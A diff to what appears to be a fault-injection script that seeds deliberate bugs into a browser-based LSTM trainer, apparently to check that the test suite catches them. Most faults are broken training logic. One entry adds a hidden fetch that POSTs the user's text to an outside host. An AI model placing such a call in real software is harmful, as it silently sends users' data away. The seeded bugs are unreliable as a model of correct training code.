@@ -382,6 +382,68 @@ FAULTS = {
         "value * scale[Math.floor(i / width)]",
         "value * scale[i % scale.length]",
     ),
+    "training in the page: gates in the wrong order": (
+        "extra/_static/playground/trainer.js",
+        "          const i = sigmoid(gates[at]);\n          const f = sigmoid(gates[at + H]);",
+        "          const f = sigmoid(gates[at]);\n          const i = sigmoid(gates[at + H]);",
+    ),
+    "training in the page: the forget gate's bias left out": (
+        "extra/_static/playground/trainer.js",
+        "table[k] = inner[r] + outer[r];",
+        "table[k] = r >= H && r < 2 * H ? 0 : inner[r] + outer[r];",
+    ),
+    "training in the page: slopes not summed over places": (
+        "extra/_static/playground/trainer.js",
+        "dTable[row + r] += dSums[n * 4 * H + r];",
+        "dTable[row + r] = dSums[n * 4 * H + r];",
+    ),
+    "training in the page: slopes of the first window only": (
+        "extra/_static/playground/trainer.js",
+        'addProduct(g["recurrent.weight_hh_l0"], 4 * H, H, N, turned.sums',
+        'addProduct(g["recurrent.weight_hh_l0"], 4 * H, H, T, turned.sums',
+    ),
+    "training in the page: slopes of the batch before kept": (
+        "extra/_static/playground/trainer.js",
+        "      this.slopes.fill(0);\n",
+        "",
+    ),
+    "training in the page: the last step's slope missing": (
+        "extra/_static/playground/trainer.js",
+        "for (let t = T - 1; t >= 0; t--) {\n        this.#backThroughStep(t);",
+        "for (let t = T - 2; t >= 0; t--) {\n        this.#backThroughStep(t);",
+    ),
+    "training in the page: Adam's bias correction missing": (
+        "extra/_static/playground/trainer.js",
+        "const step = rate / (1 - beta1 ** this.updates);",
+        "const step = rate;",
+    ),
+    "training in the page: state not reset": (
+        "extra/_static/playground/trainer.js",
+        '      const inner = w["recurrent.bias_ih_l0"], outer',
+        "      this.hsAt[0].set(this.hsAt[T]);\n      this.csAt[0].set(this.csAt[T]);\n"
+        '      const inner = w["recurrent.bias_ih_l0"], outer',
+    ),
+    "training in the page: clipping left out": (
+        "extra/_static/playground/trainer.js",
+        "      this.#clip(clip);\n",
+        "",
+    ),
+    "training in the page: held-out text learned": (
+        "extra/_static/playground/trainer.js",
+        "train: ids.subarray(0, border)",
+        "train: ids",
+    ),
+    "training in the page: it trains on while it is paused": (
+        "extra/_static/playground/trainer.js",
+        "        running = null;\n        training.report();",
+        "        training.report();",
+    ),
+    "training in the page: the text is sent away": (
+        "extra/_static/playground/train-here.js",
+        '        worker.postMessage({ order: "begin", text, settings });',
+        '        worker.postMessage({ order: "begin", text, settings });\n'
+        '        fetch("https://example.org/", { method: "POST", body: text }).catch(() => {});',
+    ),
     "a colour that the figures do not have": (
         "_static/book.css",
         "  --cbc-gru: #009E73;\n  --cbc-transformer",
@@ -456,6 +518,8 @@ def nearest_tests(file):
         return ["tests/test_checks.py"]
     if file == "tools/stubs.py":
         return ["tests/test_exercises.py"]
+    if file.endswith(("trainer.js", "train-here.js")):
+        return ["tests/test_train_here.py"]
     own = f"tests/test_{Path(file).stem}.py"
     return [own] if (ROOT / own).is_file() else ALL_TESTS
 
